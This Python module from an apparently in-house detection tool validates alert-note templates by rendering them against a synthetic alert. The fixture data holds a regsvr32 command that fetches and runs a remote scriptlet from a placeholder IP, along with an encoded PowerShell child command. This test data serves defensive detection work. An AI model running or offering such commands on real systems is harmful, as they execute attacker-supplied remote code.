"""Checking templates before they meet real alerts: parse, then render a synthetic alert.

The synthetic hit is a realistic regsvr32 story in Elastic Defend's shape (process start,
outbound connection, module load, child process), so a template that reads a field most
alerts will have renders, and one with a typo or an unguarded exotic field fails here.
"""

from __future__ import annotations

from collections.abc import Iterable
from functools import cache
from pathlib import Path
from typing import Any

from jinja2 import TemplateNotFound, TemplateSyntaxError

from eqlwatch.enrich import Enricher, Enrichment, load_ip_table
from eqlwatch.errors import ConfigError, EqlwatchError, Location
from eqlwatch.model import Hit, HitEvent
from eqlwatch.notes.render import NoteRenderer, alert_view, note_context
from eqlwatch.rules.model import Rule, RuleBody

_HOST = {"name": "ws-0042", "hostname": "ws-0042", "id": "h-1", "os": {"type": "windows"}}
_USER = {"name": "alice", "domain": "CORP", "id": "S-1-5-21-1-1001"}
_PROC = {
    "name": "regsvr32.exe",
    "executable": "C:\\Windows\\System32\\regsvr32.exe",
    "pid": 4242,
    "entity_id": "proc-4242",
    "command_line": "regsvr32.exe /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll",
    "args": ["regsvr32.exe", "/s", "/n", "/u", "/i:http://203.0.113.7/x.sct", "scrobj.dll"],
    "parent": {
        "name": "cmd.exe",
        "executable": "C:\\Windows\\System32\\cmd.exe",
        "pid": 4000,
        "entity_id": "proc-4000",
        "command_line": "cmd.exe /c run.bat",
    },
}


def _event(ts: str, category: str, kind: str, **extra: Any) -> dict[str, Any]:
    base = {"@timestamp": ts, "host": _HOST, "user": _USER, "process": _PROC}
    base["event"] = {"category": [category], "type": [kind], "kind": "event", "id": ts}
    return {**base, **extra}


def synthetic_hit() -> Hit:
    """A four-event sequence with IPs, DLL and child process; ids and indices included."""
    child = {**_PROC, "name": "powershell.exe", "pid": 4300, "entity_id": "proc-4300"}
    child["command_line"] = "powershell.exe -nop -enc SQBFAFgA"
    child["parent"] = {k: _PROC[k] for k in ("name", "executable", "pid", "entity_id")}
    sources = [
        _event("2025-06-01T10:00:00.000Z", "process", "start"),
        _event(
            "2025-06-01T10:00:01.500Z",
            "network",
            "connection",
            source={"ip": "10.1.2.3", "port": 50123},
            destination={"ip": "203.0.113.7", "port": 80, "domain": "cdn.example.net"},
            network={"protocol": "http", "direction": "egress", "transport": "tcp"},
        ),
        _event(
            "2025-06-01T10:00:02.000Z",
            "library",
            "start",
            dll={"name": "x.dll", "path": "C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll"},
        ),
        {**_event("2025-06-01T10:00:03.000Z", "process", "start"), "process": child},
    ]
    events = tuple(
        HitEvent(
            index=".ds-logs-endpoint.events.process-default-2025.06.01-000001",
            id=f"ev{i}",
            source=s,
        )
        for i, s in enumerate(sources)
    )
    return Hit(kind="sequence", events=events, join_keys=("proc-4242",))


def synthetic_rule(template: str | None = None) -> Rule:
    body = RuleBody.model_validate(
        {
            "rule_id": "00000000-0000-0000-0000-000000000000",
            "name": "Synthetic rule for template checks",
            "description": "Checks that a template renders.",
            "type": "eql",
            "query": "process where true",
            "risk_score": 47,
            "severity": "medium",
            "references": ["https://attack.mitre.org/techniques/T1218/010/"],
            "false_positives": ["Administrators registering COM servers."],
            "note": "## Triage\n\n- Check the parent process.\n",
            "threat": [
                {
                    "framework": "MITRE ATT&CK",
                    "tactic": {"id": "TA0005", "name": "Defense Evasion"},
                    "technique": [{"id": "T1218", "name": "System Binary Proxy Execution"}],
                }
            ],
        }
    )
    return Rule.model_validate({"rule": body, "eqlwatch": {"template": template}})


@cache
def _enricher() -> Enricher:
    """Read the IANA table once per process, not once per rule (1,081 rules: ~1/3 of validate)."""
    return Enricher(load_ip_table())


def synthetic_enrichment(hit: Hit) -> Enrichment:
    return _enricher().enrich([e.source for e in hit.events if not e.missing])


def check_template(
    renderer: NoteRenderer, name: str, rule: Rule | None = None, *, file: str | None = None
) -> list[EqlwatchError]:
    """Errors of one template: syntax (with line), then a render of the synthetic alert."""
    where = file or name
    try:
        template = renderer.template(name)
    except TemplateSyntaxError as exc:
        return [
            ConfigError(f"template syntax: {exc.message}", location=Location(where, exc.lineno))
        ]
    except Exception as exc:  # a template that cannot load is reported, not raised
        return [ConfigError(f"template cannot load: {exc}", location=Location(where))]
    if name.startswith("_"):
        return []  # macro libraries are rendered through the templates that import them
    subject = rule if rule is not None else synthetic_rule(name)
    hit = synthetic_hit()
    view = alert_view(
        "synthetic",
        subject,
        hit,
        job_id="validate",
        detected_at="2025-06-01T10:05:00Z",
        timestamp_field="@timestamp",
    )
    try:
        template.render(note_context(subject, hit, synthetic_enrichment(hit), view))
    except Exception as exc:  # any render failure is exactly what we look for
        rule_hint = f" (rule {subject.path})" if rule is not None and subject.path else ""
        message = f"template fails on a synthetic alert{rule_hint}: {type(exc).__name__}: {exc}"
        return [ConfigError(message, location=Location(where, _render_line(exc, name)))]
    return []


def _render_line(exc: Exception, name: str) -> int | None:
    tb = exc.__traceback__
    line = None
    while tb is not None:
        if tb.tb_frame.f_code.co_filename.endswith(name):
            line = tb.tb_lineno
        tb = tb.tb_next
    return line


def check_templates(templates_dir: Path, rules: Iterable[Rule] = ()) -> list[EqlwatchError]:
    """Every template in the folder, plus each rule's template rendered with that rule."""
    renderer = NoteRenderer(templates_dir)
    errors: list[EqlwatchError] = []
    for path in sorted(templates_dir.glob("*.j2")):
        errors.extend(check_template(renderer, path.name, file=str(path)))
    for rule in rules:
        name = renderer.template_name(rule)
        try:
            source = renderer.template(name).filename or name
        except TemplateNotFound:
            where = Location(rule.path, field="eqlwatch.template")
            errors.append(
                ConfigError(f"template {name!r} not found in {templates_dir}", location=where)
            )
            continue
        except Exception:  # one that cannot load: check_template reports why
            source = str(templates_dir / name)
        errors.extend(check_template(renderer, name, rule, file=source))
    return errors
